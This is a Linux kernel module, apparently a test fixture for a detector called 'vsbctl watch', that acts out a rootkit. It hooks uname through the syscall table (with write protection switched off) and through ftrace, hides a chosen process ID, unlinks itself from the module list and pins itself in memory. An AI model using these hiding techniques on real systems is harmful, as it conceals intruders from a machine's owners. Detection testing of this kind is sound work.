// SPDX-License-Identifier: GPL-2.0
/*
 * The attacker in a user VM whose kernel he controls, for the tests of vsbctl watch.
 *
 *   pid=N	takes process N out of the table of process IDs: /proc, ps and kill do not have it.
 *		It goes on running.
 *   syscall=1	uname(2) says what he wants: its entry of the system call table leads here; as newer
 *		kernels do not ask that table, its function is redirected as well
 *   self=1	the module is not in the list of modules
 *
 * He learns where things are as such modules do: a kprobe tells.
 */
#include <linux/ftrace.h>
#include <linux/idr.h>
#include <linux/kprobes.h>
#include <linux/list.h>
#include <linux/module.h>
#include <linux/pid_namespace.h>
#include <linux/uaccess.h>
#include <linux/utsname.h>
#include <asm/unistd.h>

static int pid;
module_param(pid, int, 0);
static bool syscall;
module_param(syscall, bool, 0);
static bool self;
module_param(self, bool, 0);

#define LIE	"0.0.0-hidden"

typedef asmlinkage long (*uname_fn)(const struct pt_regs *regs);
static uname_fn real;

/* As if it had been called by the kernel, and then a lie. */
static asmlinkage long lie(const struct pt_regs *regs)
{
	struct new_utsname __user *name = (void __user *)regs->di;

	if (copy_to_user(name, utsname(), sizeof(*name)) ||
	    copy_to_user(&name->release, LIE, sizeof(LIE)))
		return -EFAULT;
	return 0;
}

static void notrace redirect(unsigned long ip, unsigned long parent, struct ftrace_ops *ops,
			     struct ftrace_regs *fregs)
{
	struct pt_regs *regs = ftrace_get_regs(fregs);

	if (regs)
		regs->ip = (unsigned long)lie;
}

static struct ftrace_ops ops = {
	.func = redirect,
	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_IPMODIFY,
};

static unsigned long address_of(const char *name)
{
	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };
	unsigned long (*lookup)(const char *name);

	if (register_kprobe(&probe))
		return 0;
	lookup = (void *)probe.addr;
	unregister_kprobe(&probe);
	return lookup(name);
}

/* The table is read-only: without CR0.WP that does not matter to a kernel. */
static void write_table(unsigned long *entry, unsigned long value)
{
	unsigned long cr0;

	preempt_disable();
	asm volatile("mov %%cr0, %0" : "=r" (cr0));
	asm volatile("mov %0, %%cr0" : : "r" (cr0 & ~X86_CR0_WP) : "memory");
	WRITE_ONCE(*entry, value);
	asm volatile("mov %0, %%cr0" : : "r" (cr0) : "memory");
	preempt_enable();
}

static int patch(void)
{
	unsigned long *table = (unsigned long *)address_of("sys_call_table");
	int ret;

	if (!table)
		return -ENOENT;
	real = (uname_fn)table[__NR_uname];
	write_table(&table[__NR_uname], (unsigned long)lie);
	ret = ftrace_set_filter_ip(&ops, (unsigned long)real, 0, 0);
	return ret ?: register_ftrace_function(&ops);
}

static int __init hide_init(void)
{
	int ret = syscall ? patch() : 0;

	if (ret)
		return ret;
	if (pid && !idr_remove(&init_pid_ns.idr, pid))
		return -ESRCH;
	if (self)
		list_del_init(&THIS_MODULE->list);
	/* He stays. */
	__module_get(THIS_MODULE);
	return 0;
}
module_init(hide_init);

MODULE_DESCRIPTION("What an attacker does in a kernel, for a test");
MODULE_LICENSE("GPL");
